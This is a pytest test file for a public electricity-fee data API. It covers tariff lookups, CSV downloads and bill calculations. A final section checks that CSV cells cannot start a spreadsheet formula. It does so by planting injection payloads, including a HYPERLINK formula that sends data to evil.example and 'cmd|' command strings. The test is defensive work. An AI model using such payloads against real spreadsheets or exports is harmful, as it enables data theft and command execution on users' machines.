"""Open data API of the fee standards: JSON, CSV, the bill calculator and its errors."""

from __future__ import annotations

import csv
import io

import pytest

pytestmark = pytest.mark.usefixtures("demo_fees")


def test_tariffs_on_a_date(client):
    data = client.get("/api/v1/tariffs?on=2020-01-01").json
    assert data["on"] == "2020-01-01"
    by_code = {t["code"]: t for t in data["tariffs"]}
    assert by_code["RES-TIER-BJ"]["version"]["number"] == 1
    assert by_code["RES-TIER-BJ"]["version"]["tiers"] == ["2640", "4800", None]
    assert by_code["GEN-CI-LV"]["version"] is None  # not yet in force in 2020
    assert client.get("/api/v1/tariffs").headers["Access-Control-Allow-Origin"] == "*"


def test_tariff_with_all_versions(client):
    data = client.get("/api/v1/tariffs/RES-TIER-BJ").json
    assert [v["number"] for v in data["versions"]] == [1, 2]
    assert data["versions"][0]["effective_to"] == "2023-12-31"
    assert data["versions"][1]["prices"][0] == {"tier": 1, "period": "all", "price": "0.4883"}


def test_csv_downloads(client):
    response = client.get("/api/v1/tariffs.csv?on=2025-01-01")
    assert response.mimetype == "text/csv"
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    zj = [row for row in rows if row["tariff_code"] == "RES-TIER-ZJ"]
    assert [(r["tier"], r["tier_upper_kwh"], r["price_yuan_per_kwh"]) for r in zj] == [
        ("1", "2760.0000", "0.5380"), ("2", "4800.0000", "0.5880"), ("3", "", "0.8380")]
    history = client.get("/api/v1/tariffs/RES-TIER-BJ.csv").get_data(as_text=True)
    assert history.count("RES-TIER-BJ") == 6
    fees = client.get("/api/v1/fees.csv").get_data(as_text=True)
    assert "TEMP-CONN" in fees and "abolished" in fees


def test_fee_items(client):
    items = {item["code"]: item for item in client.get("/api/v1/fees").json["fee_items"]}
    assert items["TEMP-CONN"]["status"] == "abolished"
    assert items["TEMP-CONN"]["abolished_on"] == "2017-12-01"
    assert items["HIGH-REL"]["amount"] == "270.00"
    assert items["REPAIR-UTILITY"]["amount"] is None


def test_bill_names_tariff_version_lines_and_total(client):
    data = client.get("/api/v1/tariffs/RES-TIER-ZJ/bill?kwh=4801").json
    assert data["tariff"] == "RES-TIER-ZJ"
    assert data["version"]["number"] == 1 and data["version"]["effective_from"] == "2012-07-01"
    assert [line["amount"] for line in data["lines"]] == ["1484.88", "1199.52", "0.84"]
    assert data["lines"][0]["unit_price"] == "0.5380"
    assert data["lines"][0]["quantity"] == "2760.0000"
    assert data["total"] == "2685.24"


def test_bill_chooses_the_version_by_date(client):
    old = client.get("/api/v1/tariffs/RES-TIER-BJ/bill?kwh=2700&on=2023-12-31").json
    new = client.get("/api/v1/tariffs/RES-TIER-BJ/bill?kwh=2700&on=2024-01-01").json
    assert (old["version"]["number"], new["version"]["number"]) == (1, 2)
    assert old["total"] == "1294.41"  # 2640 x 0.4783 = 1262.71, + 60 x 0.5283 = 31.70
    assert new["total"] == "1318.41"  # 2700 x 0.4883


def test_bill_time_of_use_and_two_part(client):
    tou = client.get("/api/v1/tariffs/RES-TOU-ZJ/bill?peak_kwh=3000&valley_kwh=2000").json
    assert tou["total"] == "2442.00"
    two_part = client.get("/api/v1/tariffs/LI-CAP-10KV/bill?peak_kwh=1000&flat_kwh=2000"
                          "&valley_kwh=3000&capacity_kva=400&months=2").json
    assert two_part["total"] == "22322.60"
    assert two_part["lines"][-1]["kind"] == "basic"


@pytest.mark.parametrize(("query", "parameter"), [
    ("", "kwh"),
    ("kwh=-1", "kwh"),
    ("kwh=ten", "kwh"),
    ("kwh=1&months=0", "months"),
    ("peak_kwh=1&valley_kwh=1", "peak_kwh"),
    ("kwh=1&on=2001-01-01", "on"),
    ("kwh=1&on=01/02/2024", "on"),
    ("kwh=1&capacity_kva=100", "capacity_kva"),
])
def test_bad_input_is_a_400_naming_the_parameter(client, query, parameter):
    response = client.get(f"/api/v1/tariffs/RES-TIER-ZJ/bill?{query}&lang=en")
    assert response.status_code == 400
    assert response.json["error"]["parameter"] == parameter
    assert response.json["error"]["message"]


def test_error_messages_follow_the_language(client):
    zh = client.get("/api/v1/tariffs/RES-TIER-ZJ/bill?kwh=-1&lang=zh").json
    en = client.get("/api/v1/tariffs/RES-TIER-ZJ/bill?kwh=-1&lang=en").json
    assert zh["error"]["message"] == "数值不能为负数。"
    assert en["error"]["message"] == "The value cannot be negative."


def test_unknown_tariff_is_a_json_404(client):
    response = client.get("/api/v1/tariffs/NOPE/bill?kwh=1")
    assert response.status_code == 404 and response.json["error"]["parameter"] == "code"
    assert client.get("/api/v1/tariffs/NOPE").status_code == 404


def test_api_refuses_writes(client):
    assert client.post("/api/v1/tariffs").status_code == 405


# CSV cells never start a formula ------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+cmd|' /C calc'!A0", "-2+3+cmd|'",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
CSV_URLS = ["/api/v1/tariffs.csv?on=2025-01-01", "/api/v1/tariffs/EVIL.csv", "/api/v1/fees.csv"]


@pytest.fixture
def formulas(app, make_tariff):
    """A tariff and a fee item whose every text field starts a spreadsheet formula."""
    from datetime import date

    import sqlalchemy as sa

    from portal.core.models import utcnow
    from portal.extensions import db
    from portal.fees import services
    from portal.fees.models import FeeItem, Tariff, TariffVersion

    make_tariff("EVIL", start=date(2024, 1, 1))
    with app.app_context():
        services.save_fee_item(services.FeeItemData(
            "EVIL-FEE", "x", None, None, None, None, None, None, services.LegalBasis("n", "t")),
            utcnow())
        # Straight into the tables, as an old row or a manual fix could be.
        db.session.execute(sa.update(Tariff).where(Tariff.code == "EVIL").values(
            name_zh=FORMULAS[0], name_en=FORMULAS[1]))
        db.session.execute(sa.update(TariffVersion).values(
            basis_number=FORMULAS[2], basis_title=FORMULAS[3]))
        db.session.execute(sa.update(FeeItem).where(FeeItem.code == "EVIL-FEE").values(
            name_zh=FORMULAS[0], name_en=FORMULAS[1], unit_zh=FORMULAS[2], unit_en=FORMULAS[3],
            conditions_zh=FORMULAS[4], conditions_en=FORMULAS[5], basis_number=FORMULAS[2],
            basis_title=FORMULAS[3], refund_rule_zh=FORMULAS[4], refund_rule_en=FORMULAS[5]))
        db.session.commit()


def _csv_rows(response):
    assert response.status_code == 200 and response.mimetype == "text/csv"
    return list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"),
                                       newline="")))


def test_every_csv_address_is_tested(app):
    """The fee standards' CSV addresses (the statistics and the commitments test theirs:
    tests/stats, tests/commitments)."""
    served = {rule.rule for rule in app.url_map.iter_rules()
              if rule.rule.endswith(".csv") and not rule.rule.startswith(
                  ("/api/v1/stats/", "/api/v1/commitments/", "/staff/commitments/"))}
    assert served == {"/api/v1/tariffs.csv", "/api/v1/tariffs/<code>.csv", "/api/v1/fees.csv"}
    assert len(CSV_URLS) == len(served)


@pytest.mark.usefixtures("formulas")
@pytest.mark.parametrize("url", CSV_URLS)
def test_csv_cells_never_start_a_formula(client, url):
    rows = _csv_rows(client.get(url))
    cells = [cell for row in rows for cell in row]
    assert [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r", "\n")] == []
    evil = [cell for cell in cells if cell.startswith("'")]
    assert set(evil) <= {"'" + formula for formula in FORMULAS} and len(evil) >= 4
    assert "'" + FORMULAS[0] in evil  # the text itself is kept, after the quote


@pytest.mark.usefixtures("formulas")
def test_csv_numbers_stay_numbers(client):
    rows = list(csv.DictReader(io.StringIO(
        client.get("/api/v1/tariffs/EVIL.csv").get_data(as_text=True).lstrip("\ufeff"))))
    assert [(r["version"], r["tier"], r["tier_upper_kwh"], r["price_yuan_per_kwh"])
            for r in rows] == [("1", "1", "2760.0000", "0.5380"), ("1", "2", "4800.0000", "0.5880"),
                               ("1", "3", "", "0.8380")]


def test_csv_cell_quotes_text_and_leaves_numbers():
    from decimal import Decimal

    from portal.core.api import csv_cell

    assert csv_cell("-1") == "'-1" and csv_cell("=1") == "'=1" and csv_cell("@a") == "'@a"
    assert csv_cell("0.5380") == "0.5380" and csv_cell("'=1") == "'=1" and csv_cell("") == ""
    assert csv_cell(Decimal("-1.5")) == Decimal("-1.5") and csv_cell(-3) == -3
    assert csv_cell(None) is None
